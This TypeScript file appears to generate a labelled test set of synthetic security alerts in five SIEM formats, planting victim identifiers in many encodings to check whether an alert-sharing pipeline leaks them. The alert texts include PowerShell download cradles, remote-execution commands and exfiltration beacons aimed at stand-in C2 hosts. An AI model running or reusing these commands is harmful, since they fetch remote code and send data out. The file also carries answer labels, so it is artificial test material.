import type { AlertFormat } from '@kyoyu/contracts';
import { encode, explodeV6, ipv4Forms } from './encoders';
import { EVAL_CUSTOMERS, type EvalCustomer } from './registry';
import { HIDING_PLACES, type EvalItem, type HidingPlace, type ItemCategory, type Secret } from './types';
import { mulberry32 } from '@kyoyu/simulator';

export const FORMATS: readonly AlertFormat[] = ['ocsf', 'ecs', 'suricata', 'wazuh', 'cef'];

interface Scenario {
  name: string;
  techniques: string[];
  tactics: string[];
  sid: number;
  inbound: boolean;
  cve?: string;
}

const SCENARIOS: Scenario[] = [
  {
    name: 'ET MALWARE Cobalt Strike Beacon Observed',
    techniques: ['T1071.001'],
    tactics: ['command-and-control'],
    sid: 2032749,
    inbound: false,
  },
  {
    name: 'Suspicious PowerShell Download Cradle',
    techniques: ['T1059.001', 'T1105'],
    tactics: ['execution'],
    sid: 2027999,
    inbound: false,
  },
  {
    name: 'ET EXPLOIT Apache Log4j RCE Attempt (CVE-2021-44228)',
    techniques: ['T1190'],
    tactics: ['initial-access'],
    sid: 2034647,
    inbound: true,
    cve: 'CVE-2021-44228',
  },
  {
    name: 'LSASS Memory Dump via Comsvcs',
    techniques: ['T1003.001'],
    tactics: ['credential-access'],
    sid: 2029870,
    inbound: false,
  },
  {
    name: 'Lateral Movement via SMB Admin Share',
    techniques: ['T1021.002', 'T1570'],
    tactics: ['lateral-movement'],
    sid: 2025719,
    inbound: false,
  },
  {
    name: 'ET EXPLOIT Fortinet SSL-VPN Path Traversal (CVE-2018-13379)',
    techniques: ['T1190'],
    tactics: ['initial-access'],
    sid: 2028923,
    inbound: true,
    cve: 'CVE-2018-13379',
  },
  {
    name: 'Data Staged for Exfiltration over HTTPS',
    techniques: ['T1041', 'T1074.001'],
    tactics: ['exfiltration'],
    sid: 2031123,
    inbound: false,
  },
];

const PHISHING: Scenario = {
  name: 'Malicious Office Attachment Delivered by Mail',
  techniques: ['T1566.001', 'T1204.002'],
  tactics: ['initial-access'],
  sid: 2030145,
  inbound: false,
};
const RANSOM: Scenario = {
  name: 'Ransomware File Encryption Behaviour',
  techniques: ['T1486', 'T1490'],
  tactics: ['impact'],
  sid: 2033217,
  inbound: false,
};

const ATTACKER_IPS = [
  '185.220.101.34',
  '45.133.1.92',
  '91.92.109.14',
  '194.26.29.113',
  '5.188.206.18',
  '141.98.10.60',
  '2a0e:1c80:3::66',
];
const C2_DOMAINS = [
  'cdn-update-check.top',
  'static.telemetry-sync.xyz',
  'api.winupdt.cc',
  'img.fastcdn-node.ru',
  'portal.secure-docs.link',
];
const C2_PATHS = ['/api/v2/sync', '/gate.php', '/jquery-3.3.1.min.js', '/wp-content/upd.bin', '/ms/download'];
const JA3 = [
  '72a589da586844d7f0818ce684948eea',
  'a0e9f5d64349fb13191bc781f81f42e1',
  '6734f37431670b3ab4292b8f60f29984',
];
const UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64; Trident/7.0; rv:11.0) like Gecko',
  'curl/7.81.0',
  'python-requests/2.31.0',
];
const MALWARE_FILES = ['beacon_x64.exe', 'svchosts.exe', 'update.ps1', 'invoice_0318.docm', 'lb3.exe'];

interface Ctx {
  n: number;
  c: EvalCustomer;
  sc: Scenario;
  format: AlertFormat;
  ts: string;
  user: string;
  host: string;
  host2: string;
  person: string;
  ip: string;
  publicIp: string;
  atk: string;
  c2: string;
  c2Url: string;
  ja3: string;
  ua: string;
  mal: string;
  sha256: string;
  md5: string;
  port: number;
  rid: number;
  r: () => number;
}

/** What an item plants: text for the format's free-text field, an optional URL, and what must not leak. */
interface Plant {
  text: string;
  secrets: Secret[];
  /** Replaces the attacker URL in the record's URL field. */
  url?: string;
  /** Replaces the C2 domain (traps: a lookalike of the victim's). */
  c2?: string;
  subject?: string;
}

const hexOf = (r: () => number, n: number): string => {
  let s = '';
  for (let i = 0; i < n; i++) s += Math.floor(r() * 16).toString(16);
  return s;
};

const fqdn = (x: Ctx): string => `${x.host.toLowerCase()}.${x.c.adDns}`;
const email = (x: Ctx): string => `${x.user}@${x.c.domain}`;
const S = (value: string, kind: string, ip = false): Secret => (ip ? { value, kind, ip } : { value, kind });

function plantFor(place: HidingPlace, x: Ctx): Plant {
  const c = x.c;
  const pick = <T>(a: readonly T[]): T => a[x.n % a.length] as T;
  switch (place) {
    case 'structured':
      return { text: `${x.sc.name} detected; process ${x.mal} contacted ${x.c2}.`, secrets: [] };
    case 'free-text-en':
      return {
        text: `Beacon from ${x.host} (user ${x.user}) at ${c.orgEn} to ${x.c2}; host ${fqdn(x)} isolated.`,
        secrets: [S(c.orgEn, 'org-name'), S(fqdn(x), 'fqdn')],
      };
    case 'free-text-ja': {
      const org = c.orgJa ?? c.orgEn;
      const kana = c.orgKana ?? c.short;
      return {
        text: `${org}（${kana}）の端末 ${x.host} で ${x.user} による不審な通信を検知しました。宛先 ${x.c2}`,
        secrets: [S(org, 'org-name'), S(kana, 'org-name')],
      };
    }
    case 'path':
      return {
        text: pick([
          `Dropped C:\\Users\\${x.user}\\AppData\\Roaming\\Microsoft\\${x.mal} (persistence)`,
          `Payload written to /home/${x.user}/.cache/.${x.mal} by cron`,
          `Loaded from C:\\Documents and Settings\\${x.user}\\Local Settings\\Temp\\${x.mal}`,
        ]),
        secrets: [],
      };
    case 'unc':
      return {
        text: `Copied ${x.mal} to \\\\${x.host2}.${c.adDns}\\C$\\Windows\\Temp\\${x.mal} and \\\\${x.host2}\\ADMIN$`,
        secrets: [S(x.host2, 'host'), S(c.adDns, 'ad-domain')],
      };
    case 'command-line':
      return pick<Plant>([
        {
          text: `cmd.exe /c net use \\\\${x.host2}\\IPC$ /user:${c.netbios}\\${x.user} && ${x.mal} -connect ${x.c2Url}`,
          secrets: [S(x.host2, 'host'), S(c.netbios, 'netbios')],
        },
        {
          text: `schtasks /create /tn Upd /ru ${c.netbios}\\${x.user} /tr "C:\\ProgramData\\${x.mal}" /s ${x.host2}.${c.adDns}`,
          secrets: [S(x.host2, 'host'), S(c.netbios, 'netbios')],
        },
        {
          text: `wmic /node:${x.host2} /user:${x.user}@${c.domain} process call create "${x.mal}"`,
          secrets: [S(x.host2, 'host'), S(c.domain, 'domain')],
        },
      ]);
    case 'base64':
      return {
        text: `powershell -nop -c "iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${encode.base64(
          `Invoke-WebRequest ${x.c2Url} -OutFile \\\\${fqdn(x)}\\share\\${x.mal}; # ${c.orgEn}`,
        )}')))"`,
        secrets: [S(fqdn(x), 'fqdn'), S(c.orgEn, 'org-name')],
      };
    case 'base64url':
      return {
        text: `Beacon check-in token ${encode.base64url(`{"h":"${x.host}","u":"${email(x)}","dom":"${c.adDns}"}`)} sent to ${x.c2}`,
        secrets: [S(email(x), 'email'), S(c.adDns, 'ad-domain')],
      };
    case 'utf16le':
      return {
        text: `powershell.exe -NoP -W Hidden -EncodedCommand ${encode.utf16le(
          `IEX (New-Object Net.WebClient).DownloadString('${x.c2Url}'); Copy-Item C:\\Users\\${x.user}\\Documents\\payroll.xlsx \\\\${x.host2}.${c.adDns}\\loot`,
        )}`,
        secrets: [S(x.host2, 'host'), S(c.adDns, 'ad-domain')],
      };
    case 'gzip-base64':
      return {
        text: `Stage-2 loader: IEX(New-Object IO.StreamReader(New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('${encode.gzipBase64(
          `$t='${c.orgEn}'; $d='${c.domain}'; net group "Domain Admins" /domain ${c.netbios}`,
        )}'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()`,
        secrets: [S(c.orgEn, 'org-name'), S(c.domain, 'domain'), S(c.netbios, 'netbios')],
      };
    case 'hex':
      return pick<Plant>([
        {
          text: `Shellcode config blob ${encode.hex(`${fqdn(x)}|${email(x)}`)} extracted`,
          secrets: [S(fqdn(x), 'fqdn'), S(email(x), 'email')],
        },
        {
          text: `Decoded string table: ${encode.hexEscaped(`\\\\${x.host2}.${c.adDns}\\share`)}`,
          secrets: [S(x.host2, 'host'), S(c.adDns, 'ad-domain')],
        },
      ]);
    case 'url-encoded':
      return {
        text: `Redirect chain via ${x.c2Url}?next=1 referer=${encode.url(`https://intranet.${c.domain}/portal/${x.user}`)}`,
        secrets: [S(c.domain, 'domain')],
      };
    case 'url-double-encoded':
      return {
        text: `WAF decoded parameter r=${encode.urlDouble(`\\\\${fqdn(x)}\\c$ ${email(x)}`)}`,
        secrets: [S(fqdn(x), 'fqdn'), S(email(x), 'email')],
      };
    case 'html-entities':
      return {
        text: `Phish landing page contained ${encode.html(`${c.orgEn} <${email(x)}>`)} in the form`,
        secrets: [S(c.orgEn, 'org-name'), S(email(x), 'email')],
      };
    case 'mime-word':
      return {
        text: `Mail header X-Sender-Org: ${encode.mimeB(c.orgJa ?? c.orgEn)} Reply-To: ${encode.mimeQ(`${x.person} <${email(x)}>`)}`,
        secrets: [S(c.orgJa ?? c.orgEn, 'org-name'), S(email(x), 'email'), S(x.person, 'person')],
      };
    case 'nfkc':
      return {
        text: `Asset owner ${encode.fullWidth(c.short)} / ${encode.halfWidthKana(c.orgKana ?? '')} host ${encode.fullWidth(x.host)} contacted ${x.c2}`,
        secrets: [
          S(c.short, 'org-name'),
          S(x.host, 'host'),
          ...(c.orgKana ? [S(c.orgKana, 'org-name')] : []),
        ],
      };
    case 'punycode': {
      const idn = c.idn ?? c.domain;
      return {
        text: `Credential POST to https://sso.${encode.punycode(idn)}/login and https://mail.${idn}/owa from ${x.c2}`,
        secrets: [S(idn, 'domain')],
      };
    }
    case 'defanged':
      return {
        text: `IOC list shared by ${x.c2}: ${encode.defang(`https://vpn.${c.domain}/remote`)} ${encode.defang(email(x))}`,
        secrets: [S(c.domain, 'domain'), S(email(x), 'email')],
      };
    case 'ip-forms': {
      const v4 = ipv4Forms(x.n % 2 ? x.ip : x.publicIp);
      const forms = Object.values(v4);
      const form = forms[x.n % forms.length] as string;
      const form2 = forms[(x.n + 3) % forms.length] as string;
      return {
        text: `Scan from ${x.atk} hit ${form} and ${form2}; also ${explodeV6(c.publicV6)}`,
        secrets: [S(x.n % 2 ? x.ip : x.publicIp, 'ip', true), S(c.publicV6, 'ip', true)],
      };
    }
    case 'url':
      return {
        text: `Token theft: ${x.c2Url} relayed to https://sso.${c.domain}/adfs/ls/${x.user}`,
        url: `https://${x.host.toLowerCase()}.${c.domain}/owa/auth/${x.user}/logon.aspx`,
        secrets: [S(c.domain, 'domain')],
      };
    case 'url-query':
      return {
        text: `Exfil beacon ${x.c2Url}?u=${x.user}&h=${x.host}&t=${c.azureTenant}`,
        url: `${x.c2Url}?u=${x.user}&h=${x.host}&org=${encode.url(c.orgEn)}`,
        secrets: [S(c.orgEn, 'org-name'), S(c.azureTenant, 'tenant')],
      };
    case 'certificate':
      return {
        text: `TLS interception: subject CN=vpn.${c.domain}, O=${c.orgEn}, L=Tokyo, emailAddress=${email(x)}; issuer CN=R3, O=Let's Encrypt`,
        secrets: [S(c.domain, 'domain'), S(c.orgEn, 'org-name'), S(email(x), 'email')],
      };
    case 'email-header':
      return {
        text: `Received: from ${x.host2}.${c.adDns} ([${x.ip}]) by mx.${c.domain}\nFrom: "IT Support" <helpdesk@${x.c2}>\nTo: ${x.person} <${email(x)}>\nCc: ${c.short} Security <soc@${c.domain}>`,
        secrets: [
          S(x.host2, 'host'),
          S(x.person, 'person'),
          S(email(x), 'email'),
          S(`soc@${c.domain}`, 'email'),
        ],
      };
    case 'registry-sid':
      return {
        text: `Run key set: HKU\\${c.sidPrefix}-${x.rid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater = C:\\ProgramData\\${x.mal}`,
        secrets: [S(c.sidPrefix, 'sid')],
      };
    case 'cloud-ids':
      return {
        text: `AssumeRole arn:aws:iam::${c.awsAccount}:role/${x.user}-admin then token from https://login.microsoftonline.com/${c.azureTenant}/oauth2/token tenant ${c.siemTenant}`,
        secrets: [
          S(c.awsAccount, 'cloud-account'),
          S(c.azureTenant, 'tenant'),
          S(c.siemTenant, 'siem-tenant'),
        ],
      };
    case 'quasi-identifiers': {
      const region = c.registry.region;
      const where = [region.city, region.prefecture].filter(Boolean).join(', ');
      return {
        text: `${x.sc.name} at the ${where} site, contacting ${x.c2}.`,
        secrets: [],
      };
    }
    case 'trap-lookalike': {
      const label = c.domain.split('.')[0] as string;
      const tld = c.domain.slice(label.length);
      const typo = /[oil]/.test(label)
        ? label.replace(/[oil]/, (m) => (m === 'o' ? '0' : '1'))
        : `${label.slice(0, 2)}${label.slice(3, 4)}${label.slice(2, 3)}${label.slice(4)}`;
      const look = pick([
        `${typo}${tld}`,
        `${label}-login.com`,
        `${label}${tld === '.com' ? '.net' : '.com'}`,
        // One Latin letter swapped for its Cyrillic twin (а е о с р).
        encode.punycode(
          `${label.replace(/[aeocp]/, (m) => ({ a: 'а', e: 'е', o: 'о', c: 'с', p: 'р' })[m] ?? m)}${tld}`,
        ),
        `secure-${c.short.toLowerCase()}.support`,
      ]);
      return { text: `Credential phishing kit hosted at https://${look}/signin`, c2: look, secrets: [] };
    }
    case 'trap-phishing-subject': {
      const org = c.orgJa ?? c.orgEn;
      const [subject, secret] = pick<[string, Secret]>([
        [`【${org}】請求書のご確認のお願い`, S(org, 'org-name')],
        [`Action required: ${c.orgEn} payroll update`, S(c.orgEn, 'org-name')],
        [encode.mimeB(`${org} 人事部からのお知らせ`), S(org, 'org-name')],
        [`RE: ${c.short} VPN certificate renewal for ${x.person}`, S(c.short, 'org-name')],
      ]);
      return {
        text: `Mail with subject "${subject}" delivered to ${email(x)}; attachment ${x.mal}`,
        subject,
        secrets: [secret],
      };
    }
    case 'trap-ransom-note':
      return {
        text: `Ransom note README_${c.short.toUpperCase()}.txt: "Hello ${c.orgEn}! All your files on ${c.adDns} are encrypted. Your personal ID: ${hexOf(x.r, 16)}. Contact us at ${x.c2}"`,
        secrets: [S(c.orgEn, 'org-name'), S(c.short, 'org-name')],
      };
  }
}

function render(x: Ctx, p: Plant): string {
  const c2 = p.c2 ?? x.c2;
  const url = p.url ?? (p.c2 ? `https://${p.c2}/signin` : x.c2Url);
  const sid = `${x.c.sidPrefix}-${x.rid}`;
  const victimIp = x.sc.inbound ? x.publicIp : x.ip;
  const techniques = x.sc.techniques;
  switch (x.format) {
    case 'ocsf':
      return JSON.stringify({
        class_uid: 2004,
        category_uid: 2,
        activity_id: 1,
        type_uid: 200401,
        time: Date.parse(x.ts),
        severity_id: 4,
        severity: 'High',
        metadata: {
          version: '1.1.0',
          uid: `ocsf-${x.n}-${x.md5.slice(0, 10)}`,
          product: { name: 'Falcon Insight', vendor_name: 'CrowdStrike', version: '7.10' },
          tenant_uid: x.c.siemTenant,
        },
        finding_info: {
          uid: `fnd-${x.md5}`,
          title: x.sc.name,
          desc: p.text,
          attacks: techniques.map((id, i) => ({
            technique: { uid: id.split('.')[0], name: id },
            ...(id.includes('.') ? { sub_technique: { uid: id } } : {}),
            tactic: { uid: '', name: x.sc.tactics[i] ?? x.sc.tactics[0] },
          })),
          analytic: { uid: `cs-${x.sc.sid}`, name: x.sc.name, type_id: 1 },
        },
        device: {
          hostname: fqdn(x),
          ip: victimIp,
          uid: x.md5,
          domain: x.c.netbios,
          os: { name: 'Windows 11' },
        },
        actor: {
          user: { name: x.user, domain: x.c.netbios, uid: sid, email_addr: email(x) },
          process: {
            name: x.mal,
            pid: 7000 + x.rid,
            file: {
              path: `C:\\ProgramData\\${x.mal}`,
              name: x.mal,
              hashes: [{ algorithm_id: 3, value: x.sha256 }],
            },
          },
        },
        src_endpoint: x.sc.inbound
          ? { ip: x.atk, port: x.port }
          : { ip: x.ip, port: x.port, hostname: fqdn(x) },
        dst_endpoint: x.sc.inbound ? { ip: victimIp, port: 443 } : { ip: x.atk, port: 443, hostname: c2 },
        connection_info: { direction_id: x.sc.inbound ? 1 : 2 },
        evidences: [{ url: { url_string: url } }],
        ...(x.sc.cve ? { vulnerabilities: [{ cve: { uid: x.sc.cve } }] } : {}),
        ...(p.subject ? { message: `Subject: ${p.subject}` } : {}),
      });
    case 'ecs':
      return JSON.stringify({
        '@timestamp': x.ts,
        ecs: { version: '8.11.0' },
        event: { kind: 'alert', category: ['network'], id: `evt-${x.n}-${x.rid}`, risk_score: 73 },
        rule: { name: x.sc.name, id: `${x.md5.slice(0, 8)}-rule` },
        threat: {
          framework: 'MITRE ATT&CK',
          technique: { id: techniques, name: techniques },
        },
        host: {
          name: x.host,
          hostname: x.host,
          domain: x.c.netbios,
          ip: [victimIp],
          mac: ['00-50-56-8a-12-34'],
        },
        user: { name: x.user, domain: x.c.netbios, id: sid, email: email(x) },
        process: {
          name: x.mal,
          pid: 4000 + x.rid,
          executable: `C:\\ProgramData\\${x.mal}`,
          hash: { sha256: x.sha256, md5: x.md5 },
        },
        source: x.sc.inbound ? { ip: x.atk, port: x.port } : { ip: x.ip, port: x.port },
        destination: x.sc.inbound ? { ip: victimIp, port: 443 } : { ip: x.atk, port: 443, domain: c2 },
        url: { full: url },
        user_agent: { original: x.ua },
        tls: { client: { ja3: x.ja3 } },
        network: { direction: x.sc.inbound ? 'inbound' : 'outbound', transport: 'tcp' },
        ...(x.sc.cve ? { vulnerability: { id: x.sc.cve } } : {}),
        ...(p.subject ? { email: { subject: p.subject, to: { address: [email(x)] } } } : {}),
        message: p.text,
      });
    case 'suricata': {
      const [src, dst] = x.sc.inbound ? [x.atk, victimIp] : [x.ip, x.atk];
      const u = new URL(url.startsWith('http') ? url : `https://${c2}/`);
      return JSON.stringify({
        timestamp: x.ts.replace('Z', '+0000'),
        flow_id: 1_000_000_000_000 + x.n * 7919,
        in_iface: 'ens192',
        event_type: 'alert',
        src_ip: src,
        src_port: x.port,
        dest_ip: dst,
        dest_port: 443,
        proto: 'TCP',
        alert: {
          action: 'allowed',
          gid: 1,
          signature_id: x.sc.sid,
          rev: 3,
          signature: x.sc.name.startsWith('ET ') ? x.sc.name : `ET MALWARE ${x.sc.name}`,
          category: 'A Network Trojan was detected',
          severity: 1,
          metadata: {
            mitre_technique_id: techniques,
            mitre_tactic_id: x.sc.tactics,
            ...(x.sc.cve ? { cve: [x.sc.cve.slice(4)] } : {}),
            hostile: [x.sc.inbound ? 'src_ip' : 'dest_ip'],
          },
        },
        app_proto: 'http',
        // Inbound: the server side is the victim's web server; outbound: the C2.
        http: {
          hostname: x.sc.inbound ? `www.${x.c.domain}` : u.hostname,
          url: `${u.pathname}${u.search}`,
          http_user_agent: x.ua,
          http_method: 'GET',
          status: 200,
        },
        tls: x.sc.inbound
          ? { sni: `www.${x.c.domain}`, ja3: { hash: x.ja3 } }
          : { sni: c2, ja3: { hash: x.ja3 }, subject: `CN=${c2}` },
        ...(p.subject ? { email: { subject: p.subject } } : {}),
        fileinfo: { filename: x.mal, sha256: x.sha256 },
        payload_printable: p.text,
      });
    }
    case 'wazuh':
      return JSON.stringify({
        timestamp: x.ts.replace('Z', '+0000'),
        rule: {
          level: 12,
          description: x.sc.name,
          id: String(92000 + (x.sc.sid % 1000)),
          mitre: { id: techniques, tactic: x.sc.tactics },
          groups: ['windows', 'sysmon', 'attack'],
          ...(x.sc.cve ? { info: x.sc.cve } : {}),
        },
        agent: { id: String(1 + (x.rid % 120)).padStart(3, '0'), name: x.host, ip: victimIp },
        manager: { name: `wazuh-mgr.${x.c.adDns}` },
        id: `${Math.floor(Date.parse(x.ts) / 1000)}.${x.rid}${x.n}`,
        decoder: { name: 'windows_eventchannel' },
        data: {
          srcip: x.atk,
          url,
          srcuser: `${x.c.netbios}\\${x.user}`,
          ...(p.subject ? { title: p.subject } : {}),
        },
        location: 'EventChannel',
        full_log: `${x.ts} ${fqdn(x)} Sysmon: ProcessCreate User=${x.c.netbios}\\${x.user} Image=C:\\ProgramData\\${x.mal} Hash=${x.sha256} Detail=${p.text}`,
        syscheck: undefined,
      });
    case 'cef': {
      const esc = (s: string): string => s.replace(/\\/g, '\\\\').replace(/=/g, '\\=').replace(/\n/g, '\\n');
      const hdr = (s: string): string => s.replace(/\\/g, '\\\\').replace(/\|/g, '\\|');
      const inbound = x.sc.inbound;
      const ext = [
        `rt=${Date.parse(x.ts)}`,
        `src=${inbound ? x.atk : x.ip}`,
        `spt=${x.port}`,
        `dst=${inbound ? victimIp : x.atk}`,
        `dpt=443`,
        ...(inbound ? [`dhost=${fqdn(x)}`] : [`shost=${x.host}`, `dhost=${c2}`]),
        `suser=${esc(`${x.c.netbios}\\${x.user}`)}`,
        `deviceDirection=${inbound ? 0 : 1}`,
        `fileHash=${x.sha256}`,
        `request=${esc(url)}`,
        `requestClientApplication=${esc(x.ua)}`,
        `msg=${esc(p.text)}`,
        `cs1Label=MITRE Technique cs1=${techniques.join(',')}`,
        `cs2Label=Tactic cs2=${x.sc.tactics.join(',')}`,
        ...(x.sc.cve ? [`cs4Label=CVE cs4=${x.sc.cve}`] : []),
        ...(p.subject ? [`cs5Label=Subject cs5=${esc(p.subject)}`] : []),
        `externalId=${x.n}-${x.rid}`,
      ];
      return `CEF:0|Trend Micro|Deep Security Agent|20.0.1|${x.sc.sid}|${hdr(x.sc.name)}|8|${ext.join(' ')}`;
    }
  }
}

function categoryOf(place: HidingPlace): ItemCategory {
  if (place === 'structured') return 'clean';
  return place.startsWith('trap-') ? 'trap' : 'planted';
}

export interface EvalSetOptions {
  seed?: number;
  /** Items per hiding place and format (clean alerts get four times as many). */
  perPlaceAndFormat?: number;
}

/** The labelled evaluation set: deterministic for a seed. */
export function generateEvalSet(opts: EvalSetOptions = {}): EvalItem[] {
  const r = mulberry32(opts.seed ?? 20251122);
  const per = opts.perPlaceAndFormat ?? 3;
  const pickR = <T>(a: readonly T[]): T => a[Math.floor(r() * a.length)] as T;
  const items: EvalItem[] = [];
  let t = Date.UTC(2025, 2, 3, 0, 0, 0);
  let n = 0;
  for (const place of HIDING_PLACES) {
    const reps = place === 'structured' ? per * 4 : per;
    for (const format of FORMATS) {
      for (let k = 0; k < reps; k++) {
        t += 60_000 + Math.floor(r() * 900_000);
        // Second-level time must differ from the hour it is coarsened to.
        const ts = new Date(t - (t % 3_600_000) + 61_000 + Math.floor(r() * 3_400_000)).toISOString();
        const c =
          place === 'quasi-identifiers'
            ? (EVAL_CUSTOMERS[3 + (k % 2) * 1] as EvalCustomer)
            : (EVAL_CUSTOMERS[(n + k) % EVAL_CUSTOMERS.length] as EvalCustomer);
        const sc =
          place === 'trap-phishing-subject'
            ? PHISHING
            : place === 'trap-ransom-note'
              ? RANSOM
              : pickR(SCENARIOS);
        const c2 = pickR(C2_DOMAINS);
        const x: Ctx = {
          n,
          c,
          sc,
          format,
          ts,
          user: pickR(c.users),
          host: c.hosts[n % c.hosts.length] as string,
          host2: c.hosts[(n + 1) % c.hosts.length] as string,
          person: pickR(c.people),
          ip: `${c.internalPrefix}${2 + Math.floor(r() * 250)}`,
          publicIp: pickR(c.publicIps),
          atk: pickR(ATTACKER_IPS),
          c2,
          c2Url: `https://${c2}${pickR(C2_PATHS)}`,
          ja3: pickR(JA3),
          ua: pickR(UAS),
          mal: pickR(MALWARE_FILES),
          sha256: hexOf(r, 64),
          md5: hexOf(r, 32),
          port: 49152 + Math.floor(r() * 16000),
          rid: 1000 + Math.floor(r() * 9000),
          r,
        };
        const p = plantFor(place, x);
        const raw = render(x, p);
        items.push({
          id: `ev-${String(n).padStart(4, '0')}`,
          format,
          sourceOrg: c.registry.id,
          category: categoryOf(place),
          place,
          receivedAt: new Date(Date.parse(ts) + 2_000).toISOString(),
          raw,
          truth: {
            secrets: dedupe([...p.secrets.map((v) => ({ ...v, planted: true })), ...baseSecrets(x)]),
            indicators: indicatorsOf(x, p),
            techniques: [...sc.techniques],
            mustHold: categoryOf(place) === 'trap',
          },
        });
        n++;
      }
    }
  }
  return items;
}

function baseSecrets(x: Ctx): Secret[] {
  const c = x.c;
  const out: Secret[] = [
    S(x.host, 'host'),
    S(x.user, 'user'),
    S(x.ip, 'ip', true),
    S(x.publicIp, 'ip', true),
    S(email(x), 'email'),
    S(c.adDns, 'ad-domain'),
    S(c.sidPrefix, 'sid'),
    S(c.siemTenant, 'siem-tenant'),
    S(x.ts.slice(11, 19), 'timestamp'),
  ];
  const region = c.registry.region;
  for (const v of [region.prefecture, region.city]) if (v && v.length >= 5) out.push(S(v, 'region'));
  if (c.registry.id === 'ev-hokushin' || c.registry.id === 'ev-larkspur')
    out.push(S((c.registry.sector.split('/')[0] as string).trim(), 'sector'));
  return out;
}

/**
 * The attack indicators the canonical alert carries for this record (what ingestion extracts: Wazuh keeps
 * hashes only inside `full_log`, Suricata rebuilds the URL from `http.hostname` with an `http` scheme).
 */
function indicatorsOf(x: Ctx, p: Plant): string[] {
  const out = [x.atk];
  if (x.format !== 'wazuh') out.push(x.sha256);
  const attackerUrl = !p.url || p.url.startsWith(x.c2Url);
  if (!p.c2 && !(x.format === 'suricata' && x.sc.inbound)) {
    const c2Elsewhere = !x.sc.inbound && x.format !== 'wazuh';
    if (c2Elsewhere || attackerUrl) out.push(x.c2);
    const url = x.format === 'suricata' ? x.c2Url.replace(/^https:/, 'http:') : x.c2Url;
    if (attackerUrl) out.push(url);
  }
  if (x.sc.cve) out.push(x.sc.cve);
  return out;
}

function dedupe(s: Secret[]): Secret[] {
  const seen = new Set<string>();
  return s.filter((x) => (seen.has(x.value) ? false : (seen.add(x.value), true)));
}
